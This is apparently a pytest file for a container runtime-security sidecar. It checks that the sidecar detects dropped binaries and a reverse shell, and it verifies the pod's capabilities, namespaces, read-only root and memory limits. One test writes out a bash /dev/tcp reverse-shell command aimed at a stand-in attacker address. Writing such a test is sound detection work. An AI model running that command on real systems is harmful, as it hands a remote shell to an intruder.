"""The image as the sidecar of a task: in a pod, as restricted as on Fargate, with a real collector outside it."""

import json
import socket
from pathlib import Path
from typing import Any

import pytest

from outrider_lab.images import BASE, Pod, Podman
from outrider_lab.images.memory import memory_of
from outrider_lab.images.pod import LIMIT_MIB
from outrider_lab.namespaces import CLONE_NEWNET, entered
from outrider_lab.network import ATTACKER_ADDRESS
from outrider_wire.findings import Finding

pytestmark = pytest.mark.timeout(600)

NEW_BINARY = "Execution:Runtime/NewBinaryExecuted"
REVERSE_SHELL = "Execution:Runtime/ReverseShell"
ECS = 0xA80425FB
"""The mask of ECS's default capabilities."""
SYS_PTRACE = 1 << 19
LIMIT_BYTES = LIMIT_MIB << 20


def has(kind: str, *, exe: str = ""):
    """Whether findings hold one of this kind."""

    def holds(findings: list[Finding]) -> bool:
        return any(f.type == kind and (not exe or (f.process and f.process.exe == exe)) for f in findings)

    return holds


def capabilities(pid: int) -> int:
    """What a process may do, as a mask."""
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return int(next(line.split()[1] for line in lines if line.startswith("CapEff:")), 16)


def health(pod: Pod) -> dict[str, Any]:
    """What the sidecar last said of itself."""
    return dict(json.loads((pod.journal / "ready").read_text()))


def test_a_dropped_program_is_caught(pod: Pod):
    """An intruder's order over the network makes a program and runs it; the collector outside has the finding."""
    pod.order("cp /bin/true /tmp/dropped && /tmp/dropped")
    assert has(NEW_BINARY, exe="/tmp/dropped")(pod.findings(has(NEW_BINARY, exe="/tmp/dropped")))


def test_a_reverse_shell_is_caught(pod: Pod):
    """A shell on a connection to the attacker, started by the guarded program itself."""
    with entered(pod.network, CLONE_NEWNET):
        listener = socket.create_server((ATTACKER_ADDRESS, 4444))
    listener.settimeout(10)
    pod.order(f"exec bash -c 'bash -i >& /dev/tcp/{ATTACKER_ADDRESS}/4444 0>&1'")
    shell, _ = listener.accept()
    found = pod.findings(has(REVERSE_SHELL))
    shell.close()
    listener.close()
    (finding,) = [f for f in found if f.type == REVERSE_SHELL][:1]
    assert "python3" in " ".join(step.name for step in finding.process.ancestry)


def test_the_sidecar_alone_may_trace(pod: Pod):
    """Both have what ECS gives everybody; the sidecar has SYS_PTRACE besides."""
    assert capabilities(pod.pid(pod.app)) == ECS
    assert capabilities(pod.pid(pod.sidecar)) == ECS | SYS_PTRACE


def test_both_see_one_set_of_processes(pod: Pod):
    """The pod is a task: the PID and network namespaces are shared, the mounts are not."""
    app, sidecar = (Path(f"/proc/{pod.pid(name)}/ns") for name in (pod.app, pod.sidecar))
    for shared in ("pid", "net", "ipc", "uts"):
        assert (app / shared).readlink() == (sidecar / shared).readlink()
    assert (app / "mnt").readlink() != (sidecar / "mnt").readlink()


def test_its_root_is_read_only(podman: Podman, pod: Pod):
    """Only the journal's volume takes writing, and health is asked there."""
    write = "open('/here', 'w')"
    done = podman.try_to("exec", pod.sidecar, "python", "-c", write)
    assert "Read-only file system" in done.stderr
    assert podman.try_to("exec", pod.sidecar, "outrider", "health").returncode == 0
    pod.wait(lambda: health(pod)["enrolled"])
    assert all(one["available"] for one in health(pod)["capabilities"])


def test_it_lives_within_its_memory(pod: Pod):
    """The limit stands in the kernel's books, and the most that was ever used after these attacks is well below it."""
    pod.order("for i in $(seq 200); do cp /bin/true /tmp/many-$i; /tmp/many-$i; done")
    assert has(NEW_BINARY, exe="/tmp/many-200")(pod.findings(has(NEW_BINARY, exe="/tmp/many-200"), timeout_s=20))
    memory = memory_of(pod.pid(pod.sidecar))
    assert memory.limit_bytes == LIMIT_BYTES
    assert memory.failures == 0
    assert memory.peak_bytes < LIMIT_BYTES
    assert memory.pss_bytes < LIMIT_BYTES // 2


def test_a_memory_limit_is_kept_here(podman: Podman):
    """A program that takes more is killed: the limit above is not only written down."""
    take = "x = bytearray(200 << 20); print(len(x))"
    limit = ("--memory", f"{LIMIT_MIB}m", "--memory-swap", f"{LIMIT_MIB}m", "--cgroup-parent", podman.cgroup)
    done = podman.try_to("run", "--rm", "--network", "none", *limit, BASE, "python3", "-c", take)
    assert done.returncode == 137, done
